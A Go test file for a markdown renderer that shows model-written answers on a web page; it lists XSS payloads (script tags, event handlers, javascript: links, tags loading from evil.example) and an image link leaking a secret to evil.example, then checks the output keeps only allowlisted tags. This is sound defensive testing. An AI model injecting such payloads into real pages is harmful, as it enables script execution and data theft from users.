package web

import (
	"strings"
	"testing"

	"github.com/stretchr/testify/require"
	htmltok "golang.org/x/net/html"
)

// hostile are texts that a model or a tool may write to make a browser do something.
var hostile = []string{
	`<script>alert(1)</script>`, `<img src=x onerror=alert(1)>`, `<svg onload=alert(1)>`, `<svg><script>alert(1)</script></svg>`,
	`<iframe srcdoc="<script>alert(1)</script>"></iframe>`, `<a href="javascript:alert(1)">x</a>`, `[x](javascript:alert(1))`,
	`[x](JaVaScRiPt:alert(1))`, `[x](data:text/html,<script>alert(1)</script>)`, `[x](vbscript:x)`, `<javascript:alert(1)>`,
	`[x]( javascript:alert(1))`, "[x](java\tscript:alert(1))", `[x](&#106;avascript:alert(1))`, `![x](javascript:alert(1))`,
	`![x" onerror="alert(1)](http://a.example/)`, `[x](http://a.example/"onmouseover="alert(1))`, `<div style="position:fixed">x</div>`,
	`<form action=/logout method=post><input name=x autofocus onfocus=alert(1)></form>`, `<object data=x></object>`, `<embed src=x>`,
	`<base href=//evil.example/>`, `<meta http-equiv=refresh content="0;url=//evil.example">`, `<link rel=stylesheet href=//evil.example/x.css>`,
	"```js\" onclick=\"alert(1)\nx\n```", "`<script>alert(1)</script>`", "| <img src=x onerror=alert(1)> |\n|---|\n| x |",
	`<!--><script>alert(1)</script>-->`, `<math><mtext><script>alert(1)</script></mtext></math>`, `<style>*{background:url(//evil.example)}</style>`,
	"<p\nonclick=alert(1)>x</p>", `<x-y onclick=alert(1)>`, `http://a.example/"onclick="alert(1)`, "\x00<script>alert(1)</script>",
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`, `<template><script>alert(1)</script></template>`, `<input type=image src=//evil.example/x>`,
}

// TestCaseD7_68_D7_69_TextOfModelsStaysText: whatever a model writes, the page gets no script, no handler, no style, no
// form, nothing that loads by itself; links leave by a click only and do not tell where from.
func TestCaseD7_68_D7_69_TextOfModelsStaysText(t *testing.T) {
	m := newMarkdown()
	for _, text := range append(hostile, "![photo](https://evil.example/leak?q=secret) ![](//evil.example/x)", strings.Join(hostile, "\n\n")) {
		out, err := m.html(text)
		require.NoError(t, err)
		requireHarmless(t, text, out)
	}
}

// FuzzCaseD7_68_Markdown looks for a text that gets through.
func FuzzCaseD7_68_Markdown(f *testing.F) {
	for _, text := range hostile {
		f.Add(text)
	}
	m := newMarkdown()
	f.Fuzz(func(t *testing.T, text string) {
		out, err := m.html(text)
		require.NoError(t, err)
		requireHarmless(t, text, out)
	})
}

// harmless are the elements that an answer may consist of, with their attributes.
var harmless = map[string]string{
	"p": "", "br": "", "hr": "", "h3": "", "h4": "", "h5": "", "h6": "", "strong": "", "em": "", "del": "", "pre": "",
	"blockquote": "", "ul": "", "li": "", "table": "", "thead": "", "tbody": "", "tr": "", "code": "class",
	"ol": "start", "th": "align", "td": "align", "a": "href rel target",
}

func requireHarmless(t *testing.T, text, out string) {
	t.Helper()
	nodes := htmltok.NewTokenizer(strings.NewReader(out))
	for {
		switch nodes.Next() {
		case htmltok.ErrorToken:
			return
		case htmltok.StartTagToken, htmltok.SelfClosingTagToken:
			tag := nodes.Token()
			allowed, ok := harmless[tag.Data]
			require.True(t, ok, "<%s> from %q", tag.Data, text)
			for _, a := range tag.Attr {
				require.Contains(t, strings.Fields(allowed), a.Key, "<%s> from %q", tag.Data, text)
				if a.Key == "href" {
					require.Regexp(t, `^(?i)(https?|mailto):`, a.Val, "from %q", text)
				}
			}
		}
	}
}

func TestMarkdown(t *testing.T) {
	m := newMarkdown()
	for _, tc := range []struct{ name, text, want string }{
		{"headings stand below those of the page", "# One\n\n###### Six", "<h3>One</h3>\n<h6>Six</h6>\n"},
		{"links leave by a click and tell nothing", "[a](https://a.example/)", `<p><a href="https://a.example/" rel="nofollow noreferrer noopener" target="_blank">a</a></p>` + "\n"},
		{"an image is a link to it", "![cat](https://a.example/c.png)", `<p><a href="https://a.example/c.png" rel="nofollow noreferrer noopener" target="_blank">image: cat</a></p>` + "\n"},
		{"raw HTML is left out, its text stays", "a <b>b</b> c", "<p>a b c</p>\n"},
		{"code keeps its language and its signs", "```go\na < b\n```", "<pre><code class=\"language-go\">a &lt; b\n</code></pre>\n"},
		{"task lists keep their boxes as text", "- [x] done", "<ul>\n<li>[x] done</li>\n</ul>\n"},
		{"lists go on counting", "3. three", "<ol start=\"3\">\n<li>three</li>\n</ol>\n"},
		{"nothing", "", ""},
	} {
		t.Run(tc.name, func(t *testing.T) {
			for range 2 { // the second time from the cache
				out, err := m.html(tc.text)
				require.NoError(t, err)
				require.Equal(t, tc.want, out)
			}
		})
	}
}

func TestMarkdownCacheIsBounded(t *testing.T) {
	m := newMarkdown()
	long := strings.Repeat("x", markdownKeptSize+1)
	_, err := m.html(long)
	require.NoError(t, err)
	require.False(t, m.cache.Contains(long))
	for i := range 2 * markdownEntries {
		_, err := m.html(strings.Repeat("y", i+1))
		require.NoError(t, err)
	}
	require.Equal(t, markdownEntries, m.cache.Len())
}
